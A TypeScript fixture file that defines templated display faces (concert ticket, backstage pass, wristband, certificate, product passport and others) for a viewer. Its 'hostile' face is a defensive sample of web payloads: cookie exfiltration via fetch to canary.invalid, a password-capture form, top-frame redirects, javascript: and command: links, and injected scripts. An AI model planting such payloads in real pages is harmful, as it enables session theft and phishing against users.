/** What the faces show: whole documents, fragments, SVG, plain text and one that is out to do harm. */

const page = (title: string, style: string, body: string): string =>
  `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>${title}</title>
<style>
*{box-sizing:border-box;margin:0}
body{min-height:100vh;display:grid;place-items:center;padding:20px;font:15px/1.45 system-ui,"Segoe UI",Roboto,sans-serif;color:#0f172a;background:transparent}
${style}
</style>
</head>
<body>
${body}
</body>
</html>
`;

export const concertTicket = page(
  'Harbour Concert',
  `.ticket{width:min(420px,100%);border-radius:22px;overflow:hidden;background:#fff;box-shadow:0 18px 40px #0f172a33}
.art{position:relative;height:150px;background:linear-gradient(135deg,#0f4c81,#1fa2a6 70%,#7fd8be);color:#fff;padding:20px 24px}
.art svg{position:absolute;inset:auto 0 0 0;width:100%;height:70px}
.art small{letter-spacing:.18em;text-transform:uppercase;opacity:.85}
.art h1{font-size:25px;line-height:1.15;margin-top:6px;position:relative;z-index:1}
.cut{height:0;border-top:2px dashed #cbd5e1;margin:0 20px}
dl{display:grid;grid-template-columns:1fr 1fr 1fr;gap:16px;padding:20px 24px}
dt{font-size:11px;letter-spacing:.08em;text-transform:uppercase;color:#64748b}
dd{font-weight:600}
footer{display:flex;align-items:center;justify-content:space-between;gap:12px;padding:16px 24px 20px}
.pill{padding:5px 12px;border-radius:99px;background:#dcfce7;color:#166534;font-weight:600;font-size:13px}
.pill.used{background:#fee2e2;color:#991b1b}
code{font:12px ui-monospace,Menlo,monospace;color:#64748b;overflow-wrap:anywhere}`,
  `<article class="ticket">
  <div class="art">
    <small>{{.custom.venue}}</small>
    <h1>{{.custom.event}}</h1>
    <svg viewBox="0 0 420 70" preserveAspectRatio="none" aria-hidden="true"><path d="M0 38 Q52 14 105 38 T210 38 T315 38 T420 38 V70 H0Z" fill="#fff" opacity=".25"/><path d="M0 52 Q52 30 105 52 T210 52 T315 52 T420 52 V70 H0Z" fill="#fff" opacity=".45"/></svg>
  </div>
  <dl>
    <div><dt>Block</dt><dd>{{.custom.seat.block}}</dd></div>
    <div><dt>Row</dt><dd>{{.custom.seat.row}}</dd></div>
    <div><dt>Seat</dt><dd>{{.custom.seat.number}}</dd></div>
    <div><dt>Date</dt><dd>{{.custom.date}}</dd></div>
    <div><dt>Price</dt><dd>{{.custom.price}} {{.custom.currency}}</dd></div>
    <div><dt>No.</dt><dd>{{.metadata.edition}}</dd></div>
  </dl>
  <div class="cut"></div>
  <footer>{{if .custom.scanned}}<span class="pill used">Scanned</span>{{else}}<span class="pill">Valid</span>{{end}}<code>{{.id}}</code></footer>
</article>`,
);

export const backstagePass = page(
  'Backstage pass',
  `.pass{width:min(300px,100%);border-radius:26px;padding:26px;color:#ede9fe;background:radial-gradient(120% 90% at 80% 0,#7c3aed,#1b1033 65%);box-shadow:0 20px 50px #1b103388}
.hole{width:64px;height:10px;border-radius:9px;background:#0008;margin:0 auto 26px}
h1{font-size:40px;line-height:1;letter-spacing:-.02em;color:#fff}
h2{margin-top:6px;font-size:15px;font-weight:500;color:#c4b5fd}
.who{margin-top:56px;font-size:21px;font-weight:700;color:#fff}
.row{display:flex;justify-content:space-between;margin-top:16px;padding-top:14px;border-top:1px solid #ffffff26;font-size:13px}
.bars{height:44px;margin-top:20px;border-radius:6px;background:repeating-linear-gradient(90deg,#fff 0 2px,transparent 2px 5px,#fff 5px 9px,transparent 9px 11px)}`,
  `<article class="pass">
  <div class="hole"></div>
  <h1>All access</h1>
  <h2>{{.custom.zone}}</h2>
  <p class="who">{{.custom.holder}}</p>
  <div class="row"><span>Valid until</span><strong>{{.custom.valid_until}}</strong></div>
  <div class="row"><span>Escorts</span><strong>{{.custom.escorts}}</strong></div>
  <div class="bars" role="img" aria-label="Bar code"></div>
</article>`,
);

export const wristband = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 640 200" role="img" aria-label="Festival wristband">
  <defs>
    <linearGradient id="band" x1="0" y1="0" x2="1" y2="0"><stop offset="0" stop-color="#be123c"/><stop offset=".55" stop-color="#ea580c"/><stop offset="1" stop-color="#f59e0b"/></linearGradient>
    <pattern id="weave" width="14" height="14" patternUnits="userSpaceOnUse"><path d="M0 14 L14 0" stroke="#fff" stroke-opacity=".13" stroke-width="3"/></pattern>
  </defs>
  <rect x="16" y="48" width="608" height="104" rx="52" fill="url(#band)"/>
  <rect x="16" y="48" width="608" height="104" rx="52" fill="url(#weave)"/>
  <circle cx="566" cy="100" r="30" fill="#fff" fill-opacity=".92"/>
  <path d="M553 92 a18 18 0 0 1 26 0 M558 99 a11 11 0 0 1 16 0" fill="none" stroke="#be123c" stroke-width="4" stroke-linecap="round"/>
  <circle cx="566" cy="108" r="4" fill="#be123c"/>
  <g fill="#fff" font-family="system-ui,sans-serif">
    <text x="64" y="96" font-size="30" font-weight="700">Quay Festival</text>
    <text x="64" y="126" font-size="17" opacity=".9">{{range $i, $day := .custom.days}}{{if $i}} · {{end}}{{$day}}{{end}} — balance {{.custom.balance}}</text>
  </g>
</svg>
`;

export const voucher = `<style>
.voucher{max-width:440px;margin:20px auto;display:grid;grid-template-columns:130px 1fr;border-radius:18px;overflow:hidden;font-family:system-ui,sans-serif;background:#f7fee7;color:#14532d;box-shadow:0 10px 30px #06504626}
.voucher .percent{display:grid;place-items:center;background:#065f46;color:#ecfccb;font-size:38px;font-weight:800}
.voucher .text{padding:20px 22px}
.voucher code{display:inline-block;margin-top:12px;padding:6px 12px;border:1.5px dashed #65a30d;border-radius:8px;font-size:16px;letter-spacing:.12em}
</style>
<div class="voucher">
  <div class="percent">−{{.custom.percent}}%</div>
  <div class="text"><strong>{{.metadata.name}}</strong><br>{{.metadata.description}}<br><code>{{.custom.code}}</code></div>
</div>
`;

export const trailBadge = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 320 360" role="img" aria-label="Trail badge">
  <defs><linearGradient id="sky" x1="0" y1="0" x2="0" y2="1"><stop offset="0" stop-color="#38bdf8"/><stop offset="1" stop-color="#e0f2fe"/></linearGradient>
  <clipPath id="shield"><path d="M160 14 L292 58 V176 C292 262 226 318 160 346 C94 318 28 262 28 176 V58 Z"/></clipPath></defs>
  <g clip-path="url(#shield)">
    <rect width="320" height="360" fill="url(#sky)"/>
    <circle cx="232" cy="92" r="26" fill="#fde68a"/>
    <path d="M20 236 L104 104 L150 168 L204 84 L304 236 Z" fill="#64748b"/>
    <path d="M104 104 L126 136 L108 146 L92 132 Z M204 84 L228 122 L206 134 L186 114 Z" fill="#fff"/>
    <path d="M0 236 Q80 206 160 236 T320 236 V360 H0 Z" fill="#14532d"/>
    <path d="M150 262 C166 252 190 250 176 232" fill="none" stroke="#fde68a" stroke-width="6" stroke-dasharray="12 9"/>
  </g>
  <path d="M160 14 L292 58 V176 C292 262 226 318 160 346 C94 318 28 262 28 176 V58 Z" fill="none" stroke="#14532d" stroke-width="9"/>
  <g font-family="system-ui,sans-serif" text-anchor="middle" fill="#fff">
    <text x="160" y="282" font-size="19" font-weight="700">{{.custom.trail}}</text>
    <text x="160" y="306" font-size="14">{{.custom.altitude_m}} m · {{.custom.points}} points</text>
  </g>
</svg>
`;

export const certificate = page(
  'Summit certificate',
  `.sheet{width:min(560px,100%);padding:44px 40px;text-align:center;background:#fffdf7;border:1px solid #e7e0cf;outline:6px double #c9bd9b;outline-offset:-18px;font-family:Georgia,"Times New Roman",serif}
.sheet small{letter-spacing:.3em;text-transform:uppercase;color:#8a7d5a}
h1{font-size:44px;font-weight:400;margin:14px 0 4px}
.alt{font-size:18px;color:#57534e}
hr{width:90px;margin:26px auto;border:0;border-top:1px solid #c9bd9b}
.sign{display:flex;justify-content:space-between;margin-top:34px;font-size:14px;color:#57534e}
.sign b{display:block;font-weight:400;font-style:italic;font-size:21px;color:#1c1917}`,
  `<article class="sheet">
  <small>Alpine Trails Association</small>
  <h1>{{.custom.summit}}</h1>
  <p class="alt">{{.custom.altitude_m}} metres above the sea</p>
  <hr>
  <p>This certifies that the holder of<br><code>{{.owner}}</code><br>stood on the summit.</p>
  <div class="sign"><span><b>{{.custom.guide}}</b>Guide</span><span><b>{{.custom.date}}</b>Date</span></div>
</article>`,
);

export const expedition = page(
  'Expedition pass',
  `.card{width:min(380px,100%);border-radius:24px;overflow:hidden;background:#082f49;color:#e0f2fe}
.card img{display:block;width:100%;height:200px;object-fit:cover;background:#0c4a6e}
.card div{padding:22px 24px 26px}
h1{font-size:24px;color:#fff}
p{margin-top:8px;color:#bae6fd}`,
  `<article class="card"><img src="{{.metadata.image.url}}" alt=""><div><h1>{{.metadata.name}}</h1><p>{{.metadata.description}}</p></div></article>`,
);

export const productPassport = page(
  'Product passport',
  `.sheet{width:min(460px,100%);border-radius:18px;background:#fafaf9;border:1px solid #e7e5e4;padding:26px 28px;color:#292524}
header{display:flex;gap:16px;align-items:center}
.mark{flex:none;width:56px;height:56px;border-radius:16px;background:linear-gradient(135deg,#3f3f46,#a16207)}
h1{font-size:20px}
header p{color:#78716c;font-size:13px;overflow-wrap:anywhere}
h2{margin:22px 0 8px;font-size:12px;letter-spacing:.1em;text-transform:uppercase;color:#a16207}
table{width:100%;border-collapse:collapse}
td{padding:8px 0;border-top:1px solid #e7e5e4}
td:last-child{text-align:right;color:#78716c}
.bar{height:8px;border-radius:9px;overflow:hidden;display:flex;background:#e7e5e4}
.bar i{background:#a16207}.bar i+i{background:#d6d3d1}`,
  `<article class="sheet">
  <header><div class="mark"></div><div><h1>{{.metadata.name}}</h1><p>{{.custom.model}} · size {{.custom.size}} · no. {{.metadata.edition}}</p></div></header>
  <h2>Materials</h2>
  <div class="bar">{{range .custom.materials}}<i style="width:{{.percent}}%"></i>{{end}}</div>
  <table>{{range .custom.materials}}<tr><td>{{.name}}</td><td>{{.percent}} % · {{.origin}}</td></tr>{{end}}</table>
  <h2>Repairs</h2>
  {{if .custom.repairs}}<table>{{range .custom.repairs}}<tr><td>{{.what}}</td><td>{{.date}}</td></tr>{{end}}</table>{{else}}<p>None so far.</p>{{end}}
  <h2>Warranty until {{.custom.warranty_until}}</h2>
</article>`,
);

/** The small form of the passport, a view of its own. */
export const productCard = page(
  'Product card',
  `.card{width:min(320px,100%);border-radius:18px;padding:20px 22px;background:#292524;color:#fafaf9;box-shadow:0 14px 30px #29252455}
h1{font-size:19px;line-height:1.25}
p{margin-top:4px;font-size:13px;color:#d6d3d1}
i{display:block;width:44px;height:6px;border-radius:9px;margin-bottom:14px;background:#d97706}`,
  `<article class="card"><i></i><h1>{{.metadata.name}}</h1><p>{{.custom.model}} · size {{.custom.size}}</p><p>Warranty until {{.custom.warranty_until}}</p></article>`,
);

export const loyaltyCard = page(
  'Loyalty card',
  `.card{width:min(400px,100%);aspect-ratio:1.586;border-radius:20px;padding:24px 26px;display:flex;flex-direction:column;justify-content:space-between;color:#ecfdf5;background:linear-gradient(120deg,#0f172a,#064e3b 60%,#10b981);box-shadow:0 18px 40px #0f172a55}
.top{display:flex;justify-content:space-between;align-items:baseline;font-weight:600}
.points{font-size:46px;font-weight:700;line-height:1}
.points small{font-size:15px;font-weight:500;opacity:.8}
.bottom{display:flex;justify-content:space-between;font-size:13px;opacity:.9}`,
  `<article class="card">
  <div class="top"><span>Meridian</span><span>{{.custom.tier}}</span></div>
  <div class="points">{{.custom.points}} <small>points</small></div>
  <div class="bottom"><span>since {{.custom.member_since}}</span><span>No. {{.metadata.edition}}</span></div>
</article>`,
);

/** Everything that a viewer must not let through, in one face. */
export const hostile = `<!doctype html>
<html><head><base href="https://canary.invalid/"><meta http-equiv="refresh" content="1;url=https://canary.invalid/refresh">
<link rel="stylesheet" href="https://canary.invalid/style.css"><link rel="prefetch" href="//canary.invalid/prefetch">
<style>@import url(https://canary.invalid/import.css);@font-face{font-family:x;src:url(https://canary.invalid/font.woff2)}body{background:url(https://canary.invalid/bg.png);font-family:x}</style></head>
<body onload="parent.postMessage('owned','*')">
<h1>{{.metadata.name}}</h1><p>{{.custom.note}}</p>
<script>top.location='https://canary.invalid/top';fetch('https://canary.invalid/fetch?'+document.cookie)</script>
<img src="https://canary.invalid/pixel.png?owner={{.owner}}" onerror="alert(1)">
<svg><script>alert(2)</script><use href="https://canary.invalid/sprite.svg#x"/><image href="https://canary.invalid/svg.png"/></svg>
<form action="https://canary.invalid/form" target="_top"><input name="password" autofocus><button>Sign in</button></form>
<iframe src="https://canary.invalid/frame"></iframe><object data="https://canary.invalid/object"></object><embed src="https://canary.invalid/embed">
<a href="javascript:alert(3)" target="_parent">link</a><a href="command:workbench.action.quit">command</a>
</body></html>
`;

export const plainText = `{{.metadata.name}}

Owner     {{.owner}}
Template  {{.template_id}}
Version   {{.version}}, nonce {{.nonce}}

This face is plain text: no markup, nothing to load.
`;
